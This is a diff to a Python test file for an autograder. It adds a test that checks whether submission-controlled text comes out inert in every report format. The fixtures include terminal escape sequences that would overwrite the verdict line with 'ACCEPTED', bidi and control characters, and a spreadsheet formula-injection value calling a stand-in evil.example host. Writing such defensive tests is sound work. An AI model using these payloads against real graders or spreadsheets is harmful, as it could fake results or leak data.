@@ -11,6 +11,7 @@ with the standard library and checked against the structure CI systems read (Ant
 import json
 import math
 import os
+import re
 import subprocess
 import sys
 import tempfile
@@ -411,3 +412,58 @@ def test_a_wrong_scoring_table_is_refused_with_the_reason(table, why):
     data = tomllib.loads((ROOT / "problem" / "spec.toml").read_text())
     with pytest.raises(ValueError, match=why):
         parse_spec(data | {"scoring": table})
+
+
+# --- Text a submission controls is inert in every format ---------------------------------------------
+
+# What no report may carry raw: lone surrogates (no UTF-8 file can hold them), C0 controls but tab and
+# newline, DEL, C1 controls, bidirectional overrides and isolates, and the noncharacters XML forbids.
+RAW_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\u202a-\u202e\u2066-\u2069\ufffe\uffff]")
+OVERWRITE = "\x1b[2K\rVerdict:    ACCEPTED"  # on a terminal: erase the line, back to its start, write over it
+NASTY = f"lone \ud800 and \udfff, NUL \x00, bell \x07, DEL \x7f, C1 \x9b2K, title \x1b]0;owned\x07, {OVERWRITE}\x1b[1A{OVERWRITE}\r\n, bidi \u202e"
+FORMULA_ID = '=HYPERLINK("http://evil.example/?"&A1,"grade")'
+
+
+def nasty_report() -> Report:
+    """A report whose every text a submission could have chosen holds what would break a format."""
+    public = case("public_nasty", "basic", Verdict.RUNTIME_ERROR, public=True, message="raised during the call:\n" + NASTY)
+    public.check = "exception"
+    cases = [public, case("hidden_nasty", "basic", Verdict.WRONG_ANSWER, message=NASTY), case("never", "basic", NOT_RUN, seconds=None)]
+    message = f"case public_nasty failed (0 of 3 cases passed): raised during the call:\n{NASTY}"
+    report = Report(Verdict.RUNTIME_ERROR, message, f"{FORMULA_ID}{NASTY}.py", "id", "process", cases=cases, stdout=NASTY, stderr=NASTY)
+    report.hints, report.diagnosis, report.warnings = [NASTY], [NASTY], [NASTY]
+    return report
+
+
+def strings_of(data: object) -> list[str]:
+    """Every string in parsed JSON, keys included."""
+    if isinstance(data, str):
+        return [data]
+    if isinstance(data, dict):
+        return [*data.keys(), *(s for value in data.values() for s in strings_of(value))]
+    if isinstance(data, list):
+        return [s for item in data for s in strings_of(item)]
+    return []
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_text_a_submission_controls_is_inert_in_every_format(fmt):
+    shown = render(nasty_report(), fmt, load_spec(), Options(verbose=True))
+    shown.encode("utf-8")  # a lone surrogate would make printing or writing the report fail
+    assert not RAW_CONTROLS.search(shown), repr(RAW_CONTROLS.search(shown))
+    if fmt == "text":
+        assert [line for line in shown.splitlines() if line.startswith("Verdict:")] == ["Verdict:    RUNTIME_ERROR"]
+        assert "\\x1b[2K\\x0dVerdict:    ACCEPTED\\x1b[1A" in shown and "NUL \\x00" in shown  # shown, as escapes
+        return
+    if fmt == "junit":
+        suite = ET.fromstring(shown.encode())
+        check_junit_structure(suite)
+        texts = [t for element in suite.iter() for t in (element.text or "", *element.attrib.values())]
+        assert any("\\x1b[2K\\x0dVerdict:    ACCEPTED" in t for t in texts)
+    else:
+        data = json.loads(shown)
+        if fmt in ("gradescope", "prairielearn"):
+            jsonschema.validate(data, GRADESCOPE_SCHEMA if fmt == "gradescope" else PRAIRIELEARN_SCHEMA)
+        texts = strings_of(data)
+        assert any("\\x1b[2K\\x0dVerdict:    ACCEPTED" in t for t in texts)
+    assert not [t for t in texts if RAW_CONTROLS.search(t)]  # nor once parsed, where a platform shows it
